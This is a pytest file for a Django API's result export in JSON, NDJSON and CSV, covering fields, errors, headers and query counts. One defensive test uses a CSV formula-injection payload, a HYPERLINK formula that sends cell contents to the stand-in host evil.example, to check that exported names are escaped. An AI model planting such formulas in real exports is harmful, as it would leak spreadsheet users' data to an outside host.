"""Results as JSON, NDJSON and CSV."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from foundry.core.drafts import Draft
from foundry.core.submit import Submission, submit
from tests.api.conftest import REQUESTS

pytestmark = pytest.mark.django_db


def read(client: Any, request: Any, kind: str, more: str = "") -> str:
    answer = client.get(f"{REQUESTS}/{request.pk}/results?format={kind}{more}")
    assert answer.status_code == 200
    return b"".join(answer).decode()


def table(client: Any, request: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(read(client, request, "csv"), newline="")))


def test_a_result_has_its_items_place_and_its_values(owner, make_computed):
    request = make_computed({"number": 7, "name": "seven"}, options={"factor": 3})
    (result,) = json.loads(read(owner, request, "json"))["results"]
    assert result == {
        "position": 1,
        "name": "seven",
        "source": None,
        "state": "succeeded",
        "values": {"number": 21},
        "error": None,
        "release": "local",
    }


def test_a_failed_item_has_its_error(owner, make_computed):
    request = make_computed({"do": "err"})
    (result,) = json.loads(read(owner, request, "json"))["results"]
    assert (result["state"], result["values"], result["error"]["code"]) == ("failed", None, "toy_error")


def test_a_refused_item_is_among_the_results(owner, make_computed):
    request = make_computed({"number": 1}, {"number": -1, "name": "below"})
    failed = json.loads(read(owner, request, "json", "&state=failed"))["results"]
    assert [(row["position"], row["name"], row["error"]["field"]) for row in failed] == [(2, "below", "number")]


def test_ndjson_is_one_object_a_line_equal_to_json(owner, make_computed):
    request = make_computed(*({"number": number, "name": "a\u2028\u0085b"} for number in range(5)), {"do": "err"})
    lines = read(owner, request, "ndjson").split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == json.loads(read(owner, request, "json"))["results"]


def test_csv_is_a_table_of_the_services_columns(owner, make_computed):
    request = make_computed({"number": 7, "name": "seven"}, {"do": "err", "name": "bad"})
    assert table(owner, request) == [
        {"position": "1", "name": "seven", "file": "", "record": "", "state": "succeeded", "number": "7", "error": ""},
        {
            "position": "2",
            "name": "bad",
            "file": "",
            "record": "",
            "state": "failed",
            "number": "",
            "error": "It was told to err.",
        },
    ]


@pytest.mark.parametrize(
    ("kind", "media_type"), [("ndjson", "application/x-ndjson"), ("csv", "text/csv; charset=utf-8")]
)
def test_a_stream_is_a_download_with_its_type(kind, media_type, owner, make_computed):
    request = make_computed({"number": 1})
    answer = owner.get(f"{REQUESTS}/{request.pk}/results?format={kind}")
    assert answer.headers["Content-Type"] == media_type
    assert answer.headers["Content-Disposition"] == f'attachment; filename="toy-{str(request.pk)[:8]}.{kind}"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"


def test_before_anything_is_computed_there_are_no_results(owner, make_request):
    request = make_request({"number": 1})
    assert read(owner, request, "ndjson") == ""
    assert table(owner, request) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_name_that_is_a_formula_is_a_text_in_the_table(start, owner):
    name = f'{start}HYPERLINK("http://evil.example?"&A1)'
    draft = Draft(values={"name": name, "number": -1}, source={"file": name, "record": name, "line": 1})
    submission = Submission(service="toy", items=[draft, Draft(values={"number": 1})])
    request = submit(caller=owner.caller, submission=submission).request
    row = table(owner, request)[0]
    assert row["file"] == row["record"] == f"'{name}"
    assert row["name"] in ("", f"'{name}")


def test_quotes_and_line_breaks_do_not_break_the_table(owner):
    draft = Draft(values={"x": 1}, source={"file": 'a"b\r\n,c.csv', "record": '"', "line": 1})
    submission = Submission(service="toy", items=[draft, Draft(values={"number": 1})])
    request = submit(caller=owner.caller, submission=submission).request
    assert (table(owner, request)[0]["file"], table(owner, request)[0]["record"]) == ('a"b\r\n,c.csv', '"')


@pytest.fixture
def used(owner):
    """A token whose use has been recorded, which costs a query once a minute."""
    owner.get("/api/v1/services")
    return owner


@pytest.mark.parametrize("kind", ["csv", "ndjson"])
@pytest.mark.parametrize(("items", "pages"), [(400, 1), (1_400, 3)])
def test_a_stream_takes_one_query_a_page_of_500(kind, items, pages, used, make_computed, django_assert_num_queries):
    request = make_computed(*({"number": 1} for _ in range(items)))
    with django_assert_num_queries(2 + pages):  # the token, the request, the pages
        assert read(used, request, kind).count("\n") == items + (kind == "csv")


def test_a_page_takes_as_many_queries_whatever_its_size(used, make_computed, django_assert_num_queries):
    request = make_computed(*({"number": number} for number in range(100)))
    for limit in (1, 100):
        with django_assert_num_queries(3):  # the token, the request, the page
            used.get(f"{REQUESTS}/{request.pk}/results?limit={limit}")


def test_the_list_takes_as_many_queries_whatever_its_size(used, make_request, django_assert_num_queries):
    for count in (1, 20):
        for number in range(count):
            make_request({"number": number})
        with django_assert_num_queries(3):  # the token, the page, its progress
            used.get(REQUESTS)


@pytest.mark.parametrize("kind", ["xml", "JSON", ""])
def test_another_format_is_422(kind, owner, make_request, problem):
    problem(owner.get(f"{REQUESTS}/{make_request({'number': 1}).pk}/results?format={kind}"), 422)


def test_a_request_shows_what_made_its_results(owner, make_computed):
    request = make_computed({"number": 1}, options={"factor": 2})
    shown = owner.get(f"{REQUESTS}/{request.pk}").json()
    assert (shown["state"], shown["options"]) == ("succeeded", {"factor": 2})
    (made_by,) = shown["made_by"]
    assert (made_by["release"], set(made_by["versions"])) == ("local", {"toy", "pydantic"})


def test_a_request_of_a_service_that_is_gone_still_gives_its_results(owner, make_computed, monkeypatch):
    request = make_computed({"number": 1})
    monkeypatch.setattr("foundry.catalog.services", dict)
    assert owner.get(f"{REQUESTS}/{request.pk}").json()["artifacts"] == []
    assert json.loads(read(owner, request, "ndjson"))["values"] == {"number": 1}
    assert owner.get(f"{REQUESTS}/{request.pk}/results?format=csv").status_code == 422
